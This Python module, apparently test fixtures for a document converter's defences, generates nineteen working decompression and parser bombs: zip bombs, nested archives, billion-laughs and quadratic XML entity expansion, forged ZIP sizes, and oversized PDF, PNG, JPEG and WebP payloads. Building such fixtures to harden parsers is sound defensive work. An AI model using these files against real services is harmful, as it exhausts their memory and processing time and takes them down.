"""Files made to hurt whoever opens them. Each is small, or large only in what it says of itself."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

MEGABYTE = 1024 * 1024
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_ODT = "application/vnd.oasis.opendocument.text"


def _package(*parts: tuple[str, bytes | str]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts:
            made.writestr(name, content)
    return data.getvalue()


def word(document: bytes | str, *more: tuple[str, bytes | str]) -> bytes:
    return _package(("[Content_Types].xml", _TYPES), ("word/document.xml", document), *more)


def paragraphs(count: int = 300_000) -> bytes:
    """About 200 KB that took a converter 216 s and 748 MB."""
    one = "<w:p><w:r><w:t>x</w:t></w:r></w:p>"
    return word(f"<w:document {W}><w:body>{one * count}</w:body></w:document>")


def ratio() -> bytes:
    """A thousand bytes out of each."""
    text = b"x" * (101 * MEGABYTE)
    return word(
        f"<w:document {W}><w:body><w:p><w:r><w:t>".encode()
        + text
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )


def nested() -> bytes:
    inner = _package(("0.zip", _package(("0.txt", b"0" * MEGABYTE))))
    return word(f"<w:document {W}/>", ("word/embeddings/oleObject1.bin", inner))


def nested_workbooks() -> bytes:
    """Each level is what the one above may carry, but only one level may."""
    inner = word(f"<w:document {W}/>")
    for _level in range(3):
        inner = word(f"<w:document {W}/>", ("word/embeddings/Book.xlsx", inner))
    return inner


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return word(f'<!DOCTYPE w [<!ENTITY a0 "ha">{entities}]><w:document {W}>&a9;</w:document>')


def quadratic() -> bytes:
    return word(f'<!DOCTYPE w [<!ENTITY a "{"a" * 100_000}">]><w:document {W}>{"&a;" * 100_000}</w:document>')


def entries(count: int = 100_000) -> bytes:
    return word(f"<w:document {W}/>", *((f"word/media/{number}", b"") for number in range(count)))


def lying_sizes() -> bytes:
    """The directory says a thousand bytes; there are 120 million."""
    real = f"<w:document {W}>".encode() + b"x" * (120 * MEGABYTE)
    data = bytearray(word(real))
    size = struct.pack("<I", len(real))
    while size in data:
        place = data.index(size)
        data[place : place + 4] = struct.pack("<I", 1_000)
    return bytes(data)


def opendocument_elements() -> bytes:
    space = 'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    content = f"<office {space}>{'<text:p>x</text:p>' * 300_000}</office>"
    return _package(("mimetype", _ODT), ("content.xml", content))


def opendocument_flood() -> bytes:
    return _package(("mimetype", _ODT), ("content.xml", b"<a>" + b"x" * (101 * MEGABYTE) + b"</a>"))


def one_tag() -> bytes:
    """A tag of fifty million letters, which a parser begins anew with every block."""
    return word(f'<w:document {W} a="{"x" * 50_000_000}"/>')


def depth() -> bytes:
    return word(f"<w:document {W}>" + "<w:p>" * 50_000 + "</w:p>" * 50_000 + "</w:document>")


def braces() -> bytes:
    return b"{\\rtf1" + b"{" * (40 * MEGABYTE - 10)


def stream() -> bytes:
    """A page whose content unpacks to 200 million bytes; honest enough to be taken, and never unpacked at the gate."""
    packed = zlib.compress(b"0 0 m\n" * 33_000_000, 9)
    head = (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>\nendobj\n"
    )
    content = b"4 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\n" % (
        len(packed),
        packed,
    )
    return head + content + b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"


def object_streams() -> bytes:
    """Two thousand compressed boxes of two megabytes each."""
    packed = zlib.compress(b"x" * (2 * MEGABYTE), 9)
    one = b"1 0 obj\n<< /Type /ObjStm /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(packed), packed)
    return b"%PDF-1.7\n" + one * 2_000 + b"startxref\n0\n%%EOF\n"


def _png(*chunks: tuple[bytes, bytes]) -> bytes:
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + body


def pixels(side: int = 20_000) -> bytes:
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return _png((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b""))


def chunks() -> bytes:
    head = struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0)
    return _png((b"IHDR", head)) + _png((b"aaAa", b""))[8:] * 1_500_000


def segments() -> bytes:
    return b"\xff\xd8" + b"\xff\xfe\x00\x02" * 4_500_000


def canvas() -> bytes:
    """A WebP that says it is 16,384 by 16,384 and holds a picture of one pixel."""
    frame = b"VP8L" + struct.pack("<I", 6) + b"\x2f\x00\x00\x00\x00\x00"
    size = (16_383).to_bytes(3, "little")
    head = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + size + size
    return b"RIFF" + struct.pack("<I", 4 + len(head) + len(frame)) + b"WEBP" + head + frame


BOMBS: dict[str, Callable[[], bytes]] = {
    "paragraphs.docx": paragraphs, "ratio.docx": ratio, "nested.docx": nested, "workbooks.docx": nested_workbooks,
    "laughs.docx": laughs, "quadratic.docx": quadratic, "entries.docx": entries, "lying.docx": lying_sizes,
    "tag.docx": one_tag, "depth.docx": depth, "elements.odt": opendocument_elements, "flood.odt": opendocument_flood,
    "braces.rtf": braces, "stream.pdf": stream, "objects.pdf": object_streams, "pixels.png": pixels,
    "chunks.png": chunks, "segments.jpg": segments, "canvas.webp": canvas,
}  # fmt: skip
